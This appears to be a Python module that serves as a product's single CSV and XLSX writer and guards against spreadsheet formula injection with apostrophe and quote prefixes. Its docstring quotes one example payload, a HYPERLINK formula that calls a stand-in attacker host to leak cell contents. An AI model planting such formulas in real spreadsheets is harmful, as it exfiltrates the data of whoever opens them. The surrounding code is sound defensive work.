"""The one writer of every CSV and XLSX file the product makes, guarded once against
formula injection.

A spreadsheet runs a cell whose text starts like a formula (``=``, ``+``, ``-``, ``@``, a
tab or a carriage return): a reason ``=HYPERLINK("http://evil.example/?leak="&A1,"x")``
would become a live link that sends the sheet away. So every CSV and XLSX goes through here:

- in a CSV, such text gets a leading apostrophe (OWASP's rule);
- in an XLSX, every text cell is stored as text, never as a formula (nor as an error code
  such as ``#N/A``); text that starts like a formula is also marked with the spreadsheet's
  own quote prefix, so it shows exactly as written and stays text when someone edits it.

Numbers stay numbers. The module lives in ``audit`` because the audit log's CSV uses it and
``audit`` imports nothing of ``retention``, while every package may import ``audit``.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters an XLSX (XML 1.0) cannot hold: the C0 controls but tab, newline and return.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


class TextStream(Protocol):
    def write(self, text: str, /) -> Any: ...


def looks_like_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: text that starts like a formula gets a leading ``'``."""
    return "'" + value if looks_like_formula(value) else value


class CsvWriter:
    """``csv.writer`` with every cell guarded (:func:`csv_cell`)."""

    def __init__(self, stream: TextStream) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows([csv_cell(value) for value in row] for row in rows)


def xlsx_append(sheet: Any, row: Iterable[Any], *, bold: bool = False) -> None:
    """Append ``row`` to an openpyxl worksheet: numbers as numbers, text always as text
    (formula-like text quote-prefixed), None as an empty cell."""
    # openpyxl takes about 0.1 s to import and only XLSX downloads need it.
    from openpyxl.styles import Font

    values = [_NOT_IN_XML.sub("\ufffd", v) if isinstance(v, str) else v for v in row]
    sheet.append(["" if value is None else value for value in values])
    for cell, value in zip(sheet[sheet.max_row], values, strict=False):
        if isinstance(value, str):
            cell.data_type = "s"  # openpyxl takes "=…" for a formula and "#N/A" for an error
            if looks_like_formula(value):
                cell.quotePrefix = True
        if bold:
            cell.font = Font(bold=True)
